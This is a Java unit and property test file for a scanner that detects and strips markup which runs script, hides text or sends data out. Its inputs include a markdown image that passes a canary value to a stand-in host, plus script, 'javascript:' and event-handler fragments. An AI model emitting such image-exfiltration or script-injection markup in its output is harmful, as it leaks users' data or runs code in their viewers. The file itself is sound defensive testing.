package dev.ostiary.markup;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import dev.ostiary.scan.Sighting;
import dev.ostiary.stages.Scenarios;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import tools.jackson.databind.JsonNode;

/** Markup that runs, hides or sends is found and can be taken out; markup that is read stays. */
final class MarkupTest {

    private static final JsonNode SCENARIOS = Scenarios.of("markup.yaml");

    @TestFactory
    Stream<DynamicTest> findsAndTakesOut() {
        return each("active")
                .map(one -> dynamicTest(one.path("name").asString(), () -> {
                    var found = Markup.in(one.path("text").asString()).orElseThrow();
                    var rules = found.sightings().stream().map(Sighting::rule).toList();
                    assertTrue(rules.contains(one.path("rule").asString()), rules.toString());
                    if (!one.path("again").asBoolean(false)) {
                        assertEquals(one.path("left").asString(), found.harmless());
                    }
                    assertTrue(Markup.in(found.harmless()).isEmpty(), found.harmless());
                }));
    }

    @TestFactory
    Stream<DynamicTest> leavesWhatIsRead() {
        return each("harmless")
                .map(one -> dynamicTest(
                        one.path("name").asString(),
                        () -> assertEquals(
                                List.of(),
                                Markup.in(one.path("text").asString())
                                        .map(Markup::sightings)
                                        .orElse(List.of()))));
    }

    @Test
    void evidenceOfAnAddressHoldsNothingThatItCarries() {
        var found =
                Markup.in("![p](https://a.example/log?d=SYS-CANARY-0000-AB)").orElseThrow();
        String evidence = found.sightings().getFirst().evidence();
        assertTrue(evidence.contains("a.example"), evidence);
        assertFalse(evidence.contains("CANARY"), evidence);
    }

    @Test
    void takesNoLongerForTheWorstThanInProportion() {
        List<String> worst = List.of(
                "<",
                "<a",
                "<a ",
                "<a \"",
                "<a =\"",
                "<a b=\"",
                "<a b='\"",
                "<!--",
                "<!",
                "<?",
                "</ ",
                "<script>",
                "<i hidden>",
                "<i hidden>a<",
                "](",
                "]:",
                "](<",
                "![",
                "![](",
                "](x<",
                "<javascript:",
                "<a href=\"&#x6a",
                "<p style='/*'>",
                "<a href=//a.example/?",
                "<a b='<script",
                "[//]: # (a",
                "<a\u00a0",
                "< a>",
                "<a b=c>",
                "<![CDATA[",
                "<x:y:z ");
        for (String piece : worst) {
            for (String end : List.of("", ">", "\">", "'>")) {
                String text = piece.repeat(300_000 / piece.length()) + end;
                assertTimeoutPreemptively(
                        Duration.ofSeconds(10), () -> Markup.in(text).map(Markup::harmless), piece);
            }
        }
    }

    @Property(tries = 3000)
    void nothingIsLeftOfWhatIsTakenOut(@ForAll("pages") String page) {
        String left = Markup.in(page).map(Markup::harmless).orElse(page);
        assertTrue(Markup.in(left).isEmpty(), () -> page + " → " + left);
    }

    @Provide
    Arbitrary<String> pages() {
        return Arbitraries.of(
                        "<",
                        ">",
                        "\"",
                        "'",
                        "=",
                        " ",
                        "/",
                        "!",
                        "--",
                        "-->",
                        "<!--",
                        "<script",
                        "</script>",
                        "<a href=",
                        "javascript:",
                        "data:text/html,x",
                        "](",
                        "![",
                        "]:",
                        ")",
                        " onclick=x",
                        " hidden",
                        " style='display:none'",
                        "</p>",
                        "<p",
                        "word and word ",
                        "https://a.example/?q=",
                        "aGVsbG8gd29ybGQgMTIz",
                        "&#x6a;",
                        "\n",
                        "[//]: # (",
                        "é")
                .list()
                .ofMinSize(1)
                .ofMaxSize(24)
                .map(pieces -> String.join("", pieces));
    }

    private static Stream<JsonNode> each(String list) {
        return StreamSupport.stream(SCENARIOS.path(list).spliterator(), false);
    }
}
